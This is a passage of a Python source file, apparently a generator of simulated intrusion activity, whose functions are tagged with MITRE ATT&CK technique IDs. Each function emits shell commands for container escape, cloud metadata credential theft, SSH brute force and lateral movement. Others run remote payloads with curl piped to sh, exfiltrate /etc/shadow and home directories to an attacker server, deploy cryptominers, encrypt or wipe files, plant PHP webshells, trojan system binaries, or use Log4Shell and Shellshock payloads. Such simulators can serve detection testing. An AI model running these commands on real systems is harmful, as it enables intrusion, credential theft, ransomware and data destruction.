    return few(i, ["cat /proc/1/cgroup; cat /proc/self/mountinfo | head -3", "ls -la /.dockerenv /run/.containerenv /var/run/docker.sock", "capsh --print", "grep Cap /proc/self/status", "curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json", "fdisk -l 2>/dev/null; ls /dev/sd* /dev/vd* 2>/dev/null", "mkdir -p /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp 2>/dev/null; echo 1 > /tmp/cgrp/notify_on_release", "mkdir -p /mnt/h; mount /dev/sda1 /mnt/h 2>/dev/null; ls /mnt/h", "nsenter -t 1 -m -u -i -n -p sh -c id 2>/dev/null", "unshare -UrmC sh -c 'cat /proc/self/uid_map' 2>/dev/null", f"docker -H tcp://{i.vary.private()}:2375 run -v /:/mnt --rm alpine chroot /mnt id", "cat /var/run/secrets/kubernetes.io/serviceaccount/token 2>/dev/null", "curl -sk https://10.96.0.1:443/api/v1/namespaces/default/secrets", "ls -la /proc/1/root/ 2>/dev/null | head -3", "cat /sys/kernel/security/apparmor/profiles 2>/dev/null | head -1", "kubectl auth can-i --list", "echo $KUBERNETES_SERVICE_HOST; env | grep -i kube"], 4, 9)


@technique("T1552.005", "cloud_metadata")
def cloud_metadata(i: Intruder) -> list[str]:
    return few(i, ["curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/", "curl -s -m 2 -H 'Metadata-Flavor: Google' http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token", "curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600'", "wget -qO- http://169.254.169.254/latest/user-data", "curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'", "cat ~/.aws/credentials ~/.config/gcloud/credentials.db 2>/dev/null"], 2, 4)


@technique("T1110.001", "brute_force")
def brute_force(i: Intruder) -> list[str]:
    v = i.vary
    target, count = v.private(), v.randint(8, 25)
    tool = f"{i.den}/{v.choice(['hydra', 'medusa', 'ssh-brute', 'br', 'go'])}"
    return v.choice([[f"{i.plan.shell_tool(tool, [f'connect {target} 22'] * count)} -l root -P /tmp/pass.txt ssh://{target}"], [f"for p in $(seq 1 {count}); do (exec 3<>/dev/tcp/{target}/22; head -1 <&3) 2>/dev/null; done"], [f"python3 -c \"import socket\nfor n in range({count}):\n  s=socket.create_connection(('{target}',{v.choice([21, 22, 3306, 5432, 6379])}),1);s.recv(20);s.close()\""], [f"for u in root admin test oracle ubuntu; do for p in 1 2 3; do ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no $u@{target} id; done; done"], [f"for p in admin root toor {v.word()}; do curl -s -u admin:$p http://{target}:8080/manager/html -o /dev/null; su {i.plan.user} -c id < /dev/null; done"]])


@technique("T1021.004", "ssh_lateral")
def ssh_lateral(i: Intruder) -> list[str]:
    v = i.vary
    hosts = " ".join(v.private() for _ in range(v.randint(2, 6)))
    return v.choice([[f"for h in {hosts}; do ssh -oBatchMode=yes -oConnectTimeout=1 -oStrictHostKeyChecking=no root@$h '(curl -s http://{i.server}/x||wget -qO- http://{i.server}/x)|sh >/dev/null 2>&1 &'; done"], ["cat ~/.ssh/known_hosts /home/*/.ssh/known_hosts 2>/dev/null | cut -d' ' -f1 | sort -u", f"for h in {hosts}; do for k in /home/*/.ssh/id_* ~/.ssh/id_*; do ssh -i $k -oBatchMode=yes -oConnectTimeout=1 $h id; done; done"], [f"for h in {hosts}; do scp -oBatchMode=yes -oConnectTimeout=1 {i.den}/{i.handle} root@$h:/tmp/; done"], [f"timeout 2 ssh -f -N -oConnectTimeout=1 -oStrictHostKeyChecking=no -R {v.randint(2000, 9000)}:localhost:22 x@{i.server}", f"timeout 2 ssh -oConnectTimeout=1 -D 1080 -N x@{i.server}"]])


@technique("T1074.001", "stage_and_pack")
def stage_and_pack(i: Intruder) -> list[str]:
    v = i.vary
    name = f"{i.den}/{v.choice(['.d.tgz', 'out.tar.gz', 'x.zip', v.hex(6), 'backup.tar'])}"
    return [f"mkdir -p {i.den}", v.choice([f"tar czf {name} /etc/passwd /etc/shadow /etc/ssh /home 2>/dev/null", f"find /home /srv /opt -size -2M \\( -name '*.conf' -o -name '*.sql' -o -name '*.env' -o -name '*.doc*' \\) 2>/dev/null | tar czf {name} -T - 2>/dev/null", f"zip -qr -P {v.hex(6)} {name} /etc/ssh /home 2>/dev/null; tar cf - /etc/ssh | openssl enc -aes-256-cbc -pbkdf2 -k {v.hex(4)} -out {name}", f"cat /etc/passwd /etc/shadow | gzip > {name}"]), f"ls -la {i.den}", v.choice([f"split -b 500 {name} {name}.", f"base64 {name} > {name}.txt", "true"])]


@technique("T1048", "exfiltrate")
def exfiltrate(i: Intruder) -> list[str]:
    v = i.vary
    name = f"{i.den}/.{v.hex(4)}"
    pack = [f"mkdir -p {i.den}", f"tar czf {name} /etc/passwd /etc/ssh {i.plan.home} 2>/dev/null"]
    return pack + v.choice([[f"curl -s -F 'file=@{name}' http://{i.server}:{v.choice([8000, 8080, 9000])}/u"], [f"curl -s --upload-file {name} https://{i.server}/{v.hex(6)}"], [f"wget -q --post-file={name} http://{i.server}/p -O /dev/null"], [f"cat {name} > /dev/tcp/{i.server}/{v.choice([8888, 9001])}"], [f"python3 -c \"import urllib.request as u;u.urlopen('http://{i.server}/',open('{name}','rb').read())\""], [f"for c in $(xxd -p {name} | head -12 | cut -c1-40); do getent hosts $c.{v.domain()}; done"], [f"openssl s_client -connect {i.server}:443 -quiet < {name} 2>/dev/null | head -c 1"], [f"base64 -w0 {name} | curl -s -d @- http://{i.server}:8080/"], [f"scp -oBatchMode=yes -oConnectTimeout=1 {name} x@{i.server}:", f"curl -s -T {name} ftp://{i.server}/"]]) + [f"rm -f {name}"]


@technique("T1496", "miner")
def miner(i: Intruder) -> list[str]:
    v = i.vary
    path = f"{i.den}/{v.choice(['xmrig', 'kdevtmpfsi', 'kinsing', 'minerd', 'sysupdate', '.rsync', 'networkservice', v.word(1), 'xmr', 'dbused'])}"
    ops = [f"connect {i.server} {v.choice([3333, 4444, 14444, 5555, 443])}", f"write {i.den}/config.json", "burn 0.8", f"pause {v.randint(20, 60)}", f"connect {i.server} 3333", "burn 0.5", f"pause {v.randint(20, 60)}", f"connect {i.server} 3333", "burn 0.3"]
    i.plan.shell_tool(path, ops)
    return [*v.some(["pkill -9 xmrig; pkill -9 kdevtmpfsi", "ps aux | grep -E 'xmr|mine|kinsing' | awk '{print $2}' | head -2", "netstat -antp | grep ':3333' | awk '{print $7}'", "sysctl -w vm.nr_hugepages=128", "crontab -r", "rm -rf /tmp/.ICE-unix/x /tmp/kdevtmpfsi*", "nproc"], 1, 4), v.choice([f"{path} -o pool.{v.domain()}:3333 -u 4{v.hex(30)} -p x --donate-level 1 -B &", f"{path} &", f"nohup {path} -c {i.den}/config.json >/dev/null 2>&1 &", f"(setsid {path} --cpu-priority 5 &)"]), "sleep 0.4"]


@technique("T1486", "encrypt_files")
def encrypt_files(i: Intruder) -> list[str]:
    v = i.vary
    for number in range(v.randint(6, 25)):
        i.plan.files[f"/srv/{v.word(1)}/{v.word()}{number}.{v.choice(['docx', 'xlsx', 'pdf', 'sql', 'jpg'])}"] = v.hex(300)
    ext = v.choice(["locked", "enc", v.word(1), "crypt"])
    return [v.choice([f"find /srv -type f ! -name '*.{ext}' | while read f; do openssl enc -aes-256-cbc -pbkdf2 -k {v.hex(16)} -in \"$f\" -out \"$f.{ext}\" && rm -f \"$f\"; done", f"python3 -c \"import os\nfor r,d,fs in os.walk('/srv'):\n  for f in fs:\n    p=os.path.join(r,f);b=open(p,'rb').read();open(p+'.{ext}','wb').write(bytes(x^91 for x in b));os.remove(p)\n  open(os.path.join(r,'README_{v.word(1)}.txt'),'w').write('pay')\"", f"for f in /srv/*/*; do gzip -c $f > $f.{ext}; shred -u $f; done"]), *v.some(["echo pay > /srv/HOW_TO.txt; echo pay > /etc/motd", "rm -rf /var/backups/*", "find / -name '*.bak' -delete 2>/dev/null", "pkill -9 mysqld; pkill -9 postgres; systemctl stop mysql docker"], 1, 3)]


@technique("T1485", "wipe")
def wipe(i: Intruder) -> list[str]:
    return few(i, ["rm -rf /var/www /srv/* /home/*/Documents", "dd if=/dev/zero of=/srv/.fill bs=64k count=20 2>/dev/null; rm /srv/.fill", "shred -u /var/backups/* 2>/dev/null", "find /home -type f -name '*.*' -delete 2>/dev/null", "rm -rf /boot/grub /etc/ssh", "for u in /home/*; do rm -rf $u; done"], 1, 3)


@technique("T1505.003", "webshell")
def webshell(i: Intruder) -> list[str]:
    v = i.vary
    root = v.choice(["/var/www/html", "/usr/share/nginx/html", "/srv/www/uploads", "/opt/tomcat/webapps/ROOT"])
    name = v.choice(["shell.php", "x.jsp", f"{v.word(1)}.php", ".index.php", "wp-xml.php", "cmd.jsp", "up.phtml"])
    return [f"mkdir -p {root}", v.choice([f"echo '<?php system($_GET[0]);?>' > {root}/{name}", f"echo {encoded('<?php eval($_POST[1]);?>')} | base64 -d > {root}/{name}", f"curl -s http://{i.server}/{name}.txt -o {root}/{name}"]), v.choice([f"chmod 644 {root}/{name}; touch -r /etc/passwd {root}/{name}", f"ls -la {root}", f"chown www-data {root}/{name}"])]


@technique("T1554", "trojan_binary")
def trojan_binary(i: Intruder) -> list[str]:
    v = i.vary
    victim = v.choice(["/usr/bin/ls", "/usr/sbin/sshd", "/usr/bin/ss", "/usr/bin/lsof", "/usr/bin/sudo"])
    return [f"mkdir -p {i.den}; cp -p {victim} {i.den}/.o 2>/dev/null", f"printf '#!/bin/sh\\n{i.den}/{i.handle} &\\nexec {i.den}/.o \"$@\"\\n' > {victim}.n; chmod 755 {victim}.n; mv {victim}.n {victim}", f"touch -r /bin/cat {victim}", f"cp -p {i.den}/.o {victim}"]


@technique("T1564.001", "hide")
def hide(i: Intruder) -> list[str]:
    v = i.vary
    return v.choice([[f"mkdir -p '{i.den}/...' '/dev/shm/. '", f"cp /usr/bin/id '{i.den}/.../{i.handle}'; '{i.den}/.../{i.handle}'"], [f"mkdir -p {i.den}; touch {i.den}/.{i.handle}; chattr +i {i.den}/.{i.handle}"], [f"mkdir -p {i.den}; mount -o bind {i.den} /proc/$$ 2>/dev/null; mv {i.den}/* /var/tmp/.{v.hex(4)}/ 2>/dev/null"]])


@technique("T1087.002", "directory_query")
def directory_query(i: Intruder) -> list[str]:
    v = i.vary
    return few(i, [f"getent passwd | grep -v nologin; getent hosts dc.{v.domain()}", f"timeout 1 bash -c '</dev/tcp/{v.private()}/389'", f"timeout 1 bash -c '</dev/tcp/{v.private()}/445' && echo smb", "cat /etc/krb5.conf /etc/sssd/sssd.conf 2>/dev/null", "klist 2>/dev/null; ls /tmp/krb5cc_*", "realm list 2>/dev/null", "find / -name '*.keytab' 2>/dev/null", "cp /tmp/krb5cc_* /var/tmp/ 2>/dev/null"], 2, 5)


@technique("T1572", "tunnel")
def tunnel(i: Intruder) -> list[str]:
    v = i.vary
    path = f"{i.den}/{v.choice(['chisel', 'frpc', 'ngrok', 'gs-netcat', 'ligolo', v.word(1), 'cloudflared'])}"
    i.plan.shell_tool(path, [f"connect {i.server} {v.choice([443, 7000, 8080])}", f"pause {v.randint(5, 30)}", f"connect {v.private()} {v.choice([22, 445, 3389, 5432])}", f"connect {v.private()} {v.choice([80, 3306])}", f"connect {i.server} 443", f"pause {v.randint(10, 60)}"])
    return [f"{path} {v.choice(['client ' + i.server + ':8080 R:socks', '-c ' + i.den + '/f.ini', 'tcp 22', '-s ' + v.hex(8) + ' -l -i'])} &", "sleep 0.3"]


@technique("T1113", "collect_input")
def collect_input(i: Intruder) -> list[str]:
    d = i.den
    return i.vary.choice([[f"mkdir -p {d}; timeout 1 script -qc id {d}/.tty", f"cat {d}/.tty | head -1"], [f"mkdir -p {d}; timeout 1 strace -f -e trace=read,write -o {d}/.st -p $(pgrep -o sshd) 2>/dev/null"], [f"echo 'PROMPT_COMMAND=\"history -a >(tee -a {d}/.h)\"' >> /etc/bash.bashrc"], [f"import -window root {d}/s.png 2>/dev/null; xwd -root -out {d}/s.xwd 2>/dev/null", "cat /dev/input/event0 2>/dev/null | head -c 10"]])


@technique("T1190", "probe_services")
def probe_services(i: Intruder) -> list[str]:
    v = i.vary
    return few(i, [f"curl -s 'http://{v.private()}:8080/?x=${{jndi:ldap://{i.server}/a}}' -o /dev/null", f"curl -s http://{v.private()}:9200/_cat/indices", f"(printf 'CONFIG SET dir /var/spool/cron\\r\\nSAVE\\r\\n' > /dev/tcp/{v.private()}/6379) 2>/dev/null", f"curl -s http://{v.private()}:2375/containers/json", f"curl -sk https://{v.private()}:10250/pods", f"curl -s http://{v.private()}:8888/api/contents", f"curl -s -H 'User-Agent: () {{ :; }}; /bin/id' http://{v.private()}/cgi-bin/x", f"curl -s http://{v.private()}:5000/v2/_catalog", f"curl -s -X POST http://{v.private()}:8081/jars/upload -F f=@/etc/hostname"], 2, 5)
